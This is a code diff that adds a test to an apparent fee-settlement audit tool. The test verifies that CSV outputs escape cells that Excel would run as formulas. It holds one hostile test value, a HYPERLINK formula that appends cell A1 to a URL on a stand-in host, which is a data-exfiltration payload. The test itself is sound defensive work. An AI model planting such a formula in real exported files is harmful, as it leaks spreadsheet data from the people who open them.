@@ -542,3 +542,28 @@ def test_fee_lines_dated_before_2000_are_counted_and_warned_of(tmp_path):
     assert "1 fee line(s) are charged before 2000" in " ".join(result.output.split())
     doc = json.loads((out / "run.json").read_text(encoding="utf-8"))
     assert doc["integrity"]["fee_lines_before_2000"] == 1
+
+
+def test_csv_cells_from_the_data_never_run_as_excel_formulas(tmp_path):
+    """Found in review: an id or a quarantined cell starting with '=' went into the CSVs
+    as it came, and Excel runs such a cell as a formula when an inspector opens them."""
+    hostile = '=HYPERLINK("http://x.example/?"&A1,"详情")'
+    stays = [{**s, "institution_id": hostile} for s in STAYS]
+    data = tmp_path / "data"
+    data.mkdir()
+    table("settlements", stays).write_parquet(data / "settlements.parquet")
+    lines = table("fee_lines", LINES).select(pl.all().cast(pl.String))
+    pl.concat([lines, lines.tail(1).with_columns(line_id=pl.lit("L9"),
+                                                 charge_time=pl.lit("@SUM(1+1)"))]
+              ).write_csv(data / "fee_lines.csv")
+    out = tmp_path / "out"
+    assert run("--data", str(data), "--out", str(out)).exit_code == 0
+    assert pl.read_parquet(out / "suspicions.parquet")["institution_id"].unique().to_list() == [
+        hostile]  # the data as it is, for tools
+    for name, column, shown in (("suspicions.csv", "institution_id", "'" + hostile),
+                                ("leads.csv", "lead_id", "'" + hostile),
+                                ("quarantine.csv", "value", "'@SUM(1+1)")):
+        frame = pl.read_csv(out / name, infer_schema=False)
+        assert shown in frame[column].to_list(), name
+        for col in frame.columns:
+            assert not frame[col].drop_nulls().str.contains(r"^[=+\-@]").any(), (name, col)
